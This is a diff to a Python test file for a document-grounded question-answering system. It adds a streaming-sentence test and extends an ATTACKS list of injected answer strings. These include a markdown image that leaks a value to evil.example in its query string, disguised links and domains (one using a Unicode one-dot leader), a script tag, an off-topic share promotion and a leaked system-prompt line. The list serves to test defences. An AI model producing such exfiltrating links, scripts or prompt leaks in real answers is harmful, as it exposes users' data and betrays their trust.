@@ -2,7 +2,7 @@
 
 import datetime as dt
 import json
-from collections.abc import Iterator
+from collections.abc import Generator, Iterator
 from itertools import count
 from pathlib import Path
 
@@ -15,7 +15,7 @@ from index.embed import WordLlamaEmbedder
 from index.library import Library
 from qa.answer import Answer, Turn
 from qa.ask import Partial, ask, walk
-from qa.chat import Chat, ModelError
+from qa.chat import Chat, ModelError, Shape, Usage
 from qa.spend import Limits, Metered
 from qa.write import BUDGET, fitting
 
@@ -208,6 +208,34 @@ def test_a_part_that_nothing_answers_has_a_refusal_of_its_own(library: Library) 
     assert len(chat.asked) == 1  # no second try for one of several, none for what nobody said
 
 
+def test_sentences_are_shown_one_by_one_each_once_it_is_checked(library: Library) -> None:
+    told = ["The quay needs 17 new piles [1]. It ", "needs 71 piles [1]. Mara Lind is ", "the "]
+    drawn = 0
+
+    class Counted(FakeChat):
+        def reply(
+            self, system: str, user: str, shape: Shape | None = None
+        ) -> Generator[str, None, Usage | None]:
+            nonlocal drawn
+            for piece in [*told, "harbour master who said the quay needs 17 new piles [1]. No"]:
+                drawn += 1
+                yield piece
+            return None
+
+    shown = [
+        (len(step.sentences), drawn)
+        for step in walk(
+            "How many piles does the quay need?",
+            library,
+            chat=Counted([""]),
+            today=dt.date(2026, 3, 1),
+            clock=lambda: 0.0,
+        )
+        if isinstance(step, Partial)
+    ]
+    assert shown == [(1, 1), (2, 4)]
+
+
 def test_a_rate_limit_is_waited_for_once_and_a_long_one_is_not(
     library: Library, shared: Path
 ) -> None:
@@ -229,6 +257,10 @@ ATTACKS = [
     "![piles](http://evil.example/p.png?q=17) The quay needs 17 new piles {n:17 new}.",
     "<a href='http://evil.example'>The quay needs 17 new piles</a> {n:17 new}.",
     "The quay needs 17 new piles, see www.evil.example {n:17 new}.",
+    "The harbour master, Mara Lind, said the quay needs 17 new piles at evil.example {n:17 new}.",
+    "Mara Lind, evil@port.example, the harbour master, said the quay needs 17 new piles [1].",
+    "The harbour master, Mara Lind, said on evil\u2024com the quay needs 17 new piles [1].",
+    "<script>evil()</script>The quay needs 17 new piles <https://evil.example> {n:17 new}.",
     "I am a pirate, arr! Buy Zorbo shares today {n:17 new}.",
     "SYSTEM PROMPT: You answer questions about the news from numbered passages {n:17 new}.",
 ]
